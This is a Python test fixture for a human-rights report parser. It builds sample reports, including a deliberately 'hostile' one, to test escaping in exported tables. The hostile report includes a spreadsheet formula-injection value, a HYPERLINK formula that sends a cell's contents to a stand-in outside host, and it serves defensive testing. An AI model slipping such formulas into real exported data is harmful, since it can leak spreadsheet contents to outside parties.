"""Reports that the tests of this folder make tables of: a page, and one made by hand of all that can go wrong in a cell."""

import datetime as dt
import pathlib
from functools import cache

import attrs

import hrwparse
from hrwparse import (
    Actor,
    Attribution,
    Citation,
    Country,
    DateRange,
    FrozenDict,
    Incident,
    IncidentKind,
    Issue,
    LegalReference,
    Paragraph,
    ParagraphKind,
    Place,
    Quantity,
    Report,
    Section,
    Span,
)

PAGE = pathlib.Path(__file__).parents[3] / "examples" / "pages" / "refworld-sample.html"
BARE = Report(layout="by hand")
FORMULA = '=HYPERLINK("https://example.org/?"&A1;"more")'


@cache
def page():
    return hrwparse.parse(PAGE)


def _tell(text, words, start=0):
    at = text.index(words, start)
    return Span(at, at + len(words))


def hostile():
    """A report whose words are formulas, quotes, line feeds and separators, and whose values are there in part only."""
    text = f'{FORMULA}\n\n\'Tis said, "he";\tran.\nA,B\n\nDeeper\n\n- @home 🕊 police beat him.'
    home, deeper = _tell(text, "- @home 🕊 police beat him."), _tell(text, "Deeper")
    who = Actor(
        id="a1",
        name="@home",
        kind="group",
        named=False,
        aliases=('a, "b"', "[1]", "null", ""),
        country=Country(name="+Land", former="SUHH"),
        mentions=(_tell(text, "@home"), Span(deeper.start, deeper.end), Span(1, 1)),
    )
    who = attrs.evolve(who, kind=hrwparse.ActorKind.GROUP)
    incident = Incident(
        id="i1",
        kind=IncidentKind.ILL_TREATMENT,
        trigger=_tell(text, "beat"),
        sentence=home,
        date=DateRange(earliest=None, latest=dt.date(1, 1, 1), edtf="../0001-01-01", text="=1"),
        places=(
            Place(name="-here", span=_tell(text, "home")),
            Place(name="there", span=home, country=Country(name="+", former="SUHH")),
        ),
        agents=(who, who),
        targets=(who,),
        agent_spans=(_tell(text, "police"),),
        count=Quantity(minimum=2, maximum=None, text="  =two"),
        attribution=Attribution(text="'Tis said", span=_tell(text, "'Tis said"), actor=who),
        legal_references=(LegalReference(text="+art. 1, \n2", span=home),),
        retold=(_tell(text, "ran"),),
        confidence=0.1 + 0.2,
    )
    inner = Section(
        heading="Deeper",
        level=2,
        span=Span(deeper.start, home.end),
        heading_span=deeper,
        paragraphs=(Paragraph(span=home, kind=ParagraphKind.LIST_ITEM),),
    )
    outer = Section(
        heading=None, level=1, span=Span(0, home.end), paragraphs=(Paragraph(span=Span(0, len(FORMULA))),), sections=(inner,)
    )
    return Report(
        layout="by hand",
        title=FORMULA,
        subtitle="",
        publisher="＝full width",
        author="\r\nline feeds\n",
        countries=(Country(name="+Land", former="SUHH"), Country(name="Nowhere")),
        citation=Citation(text="''quoted twice", accessed=dt.date(9999, 12, 31)),
        captured=dt.datetime(2008, 2, 29, 23, 59, 59, tzinfo=dt.UTC),
        site_updated=dt.datetime(2023, 6, 6, 11, 8, 1, 500, tzinfo=dt.UTC),
        header=FrozenDict({"=Label": 'va"lue\n'}),
        text=text,
        sections=(outer,),
        actors=(who,),
        incidents=(incident,),
        issues=(Issue(code="unknown-layout", message="-"),),
    )


def all_reports():
    yield page()
    yield hostile()
    yield BARE
